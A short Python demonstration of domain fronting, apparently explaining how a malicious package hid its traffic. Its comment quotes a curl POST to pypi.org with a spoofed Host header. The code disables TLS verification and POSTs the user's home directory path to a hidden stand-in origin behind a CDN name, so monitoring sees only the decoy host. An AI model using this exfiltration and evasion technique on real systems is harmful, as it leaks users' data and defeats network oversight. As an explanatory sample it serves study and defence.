# Domain fronting: a POST of the home directory sent inside a TLS
# connection made to one site (a CDN's well-known customer) with the Host
# header of another site behind the same CDN (important-package-0.1.17
# does it with curl -k -X POST https://pypi.org -H "Host: ..."): what a
# firewall or a proxy log sees is the first name only.
import http.client, os, ssl

c = http.client.HTTPSConnection("cdn-customer.example", 443, timeout=5, context=ssl._create_unverified_context())
c.putrequest("POST", "/", skip_host=True)
c.putheader("Host", "hidden-origin.example")
body = ("u=" + os.path.expanduser("~")).encode()
c.putheader("Content-Length", str(len(body)))
c.endheaders(body)
print(c.getresponse().status)
